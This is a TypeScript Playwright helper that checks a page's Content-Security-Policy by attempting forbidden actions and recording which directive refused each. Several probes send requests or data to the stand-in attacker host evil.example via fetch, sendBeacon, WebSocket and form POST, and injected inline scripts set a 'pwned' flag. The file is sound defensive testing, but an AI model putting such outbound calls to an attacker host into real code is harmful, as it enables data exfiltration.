// Tries in a document what its Content-Security-Policy has to forbid.

import type { Page } from 'playwright-core';

/** For each try the directive that has refused it, as the document itself was told; `allowed` where none did. */
export function refusals(page: Page): Promise<Readonly<Record<string, string>>> {
  return page.evaluate(async () => {
    const add = (markup: string): HTMLElement => {
      const box = document.createElement('div');
      box.innerHTML = markup;
      document.body.append(box);
      return box;
    };
    const tries: Readonly<Record<string, () => unknown>> = {
      fetch: () => fetch('https://evil.example/fetch').catch(() => null),
      beacon: () => navigator.sendBeacon('https://evil.example/beacon', 'x'),
      socket: () => new WebSocket('wss://evil.example/'),
      image: () => add('<img src="https://evil.example/image.png" alt="">'),
      frame: () => add('<iframe src="https://evil.example/"></iframe>'),
      script: () => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.pwned = true';
        document.body.append(script);
      },
      handler: () =>
        add('<button onclick="globalThis.pwned = true">x</button>').querySelector('button')?.click(),
      code: () => new Function('globalThis.pwned = true')(),
      style: () => add('<p style="color: red">x</p>'),
      worker: () => new Worker('data:text/javascript,1'),
      form: () =>
        add('<form action="https://evil.example/" method="post"></form>').querySelector('form')?.submit(),
    };
    const refused: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      refused[name] = await new Promise<string>((resolve) => {
        const timer = setTimeout(() => resolve('allowed'), 1000);
        const hear = (event: SecurityPolicyViolationEvent) => {
          clearTimeout(timer);
          resolve(event.effectiveDirective);
        };
        document.addEventListener('securitypolicyviolation', hear, { once: true });
        try {
          attempt();
        } catch {
          // Some of what is refused throws as well; the event is what counts.
        }
      });
    }
    if ('pwned' in globalThis) refused.pwned = 'something ran';
    return refused;
  });
}
